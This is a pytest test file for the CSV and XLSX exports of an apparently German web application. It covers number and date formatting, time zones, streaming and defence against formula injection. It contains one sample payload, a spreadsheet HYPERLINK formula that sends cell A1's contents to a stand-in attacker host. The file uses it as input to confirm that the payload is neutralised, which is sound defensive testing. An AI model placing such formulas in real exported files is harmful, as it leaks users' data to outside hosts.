"""CSV and XLSX exports carry the same rows and columns; money stays exact."""

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from app.platform.web.exports import Column, export_response, to_csv, to_xlsx

COLUMNS = [Column("Kommune"), Column("Obergrenze", "money"), Column("Stichtag", "date"), Column("Anzahl", "int")]
ROWS = [["Köln", 252929602, date(2020, 7, 1), 3], ["Kreis Kleve; Test", 1, None, 0]]


def test_csv_is_german_and_keeps_rows():
    text = to_csv(COLUMNS, ROWS).decode("utf-8")
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text.lstrip("\ufeff")), delimiter=";"))
    assert rows[0] == ["Kommune", "Obergrenze", "Stichtag", "Anzahl"]
    assert rows[1] == ["Köln", "2.529.296,02", "01.07.2020", "3"]
    assert rows[2] == ["Kreis Kleve; Test", "0,01", "", "0"]


def test_xlsx_has_numbers_dates_and_the_same_rows():
    book = load_workbook(io.BytesIO(to_xlsx(COLUMNS, ROWS)))
    sheet = book.active
    values = list(sheet.iter_rows(values_only=True))
    assert values[0] == ("Kommune", "Obergrenze", "Stichtag", "Anzahl")
    assert Decimal(str(values[1][1])) == Decimal("2529296.02")
    assert values[1][2].date() == date(2020, 7, 1)
    assert sheet["B2"].number_format.endswith('"€"')
    assert len(values) == len(ROWS) + 1


def test_xlsx_times_are_berlin_wall_time_like_the_screen_and_the_csv():
    """Issue #21.1: 06:14 UTC in summer is 08:14 on the screen, so it is 08:14 in the file (winter: +1 h)."""
    from datetime import UTC, datetime

    from app.platform.formatting import format_datetime

    columns = [Column("Zeit", "datetime")]
    summer, winter = datetime(2022, 6, 15, 6, 14, tzinfo=UTC), datetime(2022, 1, 15, 6, 14, tzinfo=UTC)
    values = list(load_workbook(io.BytesIO(to_xlsx(columns, [[summer], [winter]]))).active.iter_rows(values_only=True))
    assert values[1][0] == datetime(2022, 6, 15, 8, 14) and values[2][0] == datetime(2022, 1, 15, 7, 14)
    assert format_datetime(summer) == values[1][0].strftime("%d.%m.%Y %H:%M")

# ------------------------------------------------------------------ formula injection (issue #14, 1)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1;"x")'
TEXT = [Column("Beschreibung")]


@given(st.sampled_from(["=", "+", "-", "@", "\t", "\r"]), st.text(max_size=20))
def test_csv_text_cells_never_start_a_formula(start, rest):
    text = to_csv(TEXT, [[start + rest]]).decode("utf-8").lstrip("\ufeff")
    cell = list(csv.reader(io.StringIO(text, newline=""), delimiter=";"))[1][0]
    assert cell == "'" + start + rest


@given(st.text(max_size=20).filter(lambda t: not t.startswith(("=", "+", "-", "@", "\t", "\r"))))
def test_csv_keeps_harmless_text_as_it_is(text):
    body = to_csv(TEXT, [[text]]).decode("utf-8").lstrip("\ufeff")
    assert list(csv.reader(io.StringIO(body, newline=""), delimiter=";"))[1] == [text]


def test_csv_money_keeps_its_minus_sign():
    text = to_csv([Column("Betrag", "money")], [[-12345]]).decode("utf-8")
    assert text.splitlines()[1] == "-123,45"


@pytest.mark.parametrize("value", [FORMULA, "+1", "-1+2", "@SUM(A1)", "\t=1", "\r=1", "Köln"])
def test_xlsx_text_cells_are_text_not_formulas(value):
    book = load_workbook(io.BytesIO(to_xlsx(TEXT, [[value]])))
    cell = book.active["A2"]
    assert cell.data_type == "s" and cell.value == value.replace("\r", "\n")  # XML stores CR as LF
    assert cell.quotePrefix


def test_page_exports_are_not_cached_and_name_one_charset(app):
    with app.test_request_context():
        response = export_response("x", "csv", TEXT, [["a"]])
    assert response.headers["Cache-Control"] == "no-store"
    assert response.headers["Content-Type"].count("charset") == 1


def _counted(rows, read):
    for row in rows:
        read.append(row)
        yield row


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_lazy_exports_stream_and_read_their_rows_only_when_the_answer_is_sent(app, fmt):
    """Issue #19: the body is a generator; a lazy row source is not touched while the view answers."""
    read: list = []
    with app.test_request_context():
        response = export_response("x", fmt, COLUMNS, _counted(ROWS, read), lazy=True)
        assert response.is_streamed and read == []
        body = b"".join(response.response)
    assert read == ROWS
    if fmt == "csv":
        assert body.decode("utf-8").count("\r\n") == len(ROWS) + 1
    else:
        sheet = load_workbook(io.BytesIO(body)).active
        assert [c.number_format for c in sheet[2]][1:3] == ['#,##0.00 "€"', "DD.MM.YYYY"]
        assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold


def test_csv_chunks_hold_a_batch_of_rows_each():
    from app.platform.web.exports import CSV_BATCH, csv_chunks

    chunks = list(csv_chunks(COLUMNS, [ROWS[0]] * (2 * CSV_BATCH + 1)))
    assert len(chunks) == 1 + 3  # header, two full batches, the rest
    assert b"".join(chunks) == to_csv(COLUMNS, [ROWS[0]] * (2 * CSV_BATCH + 1))
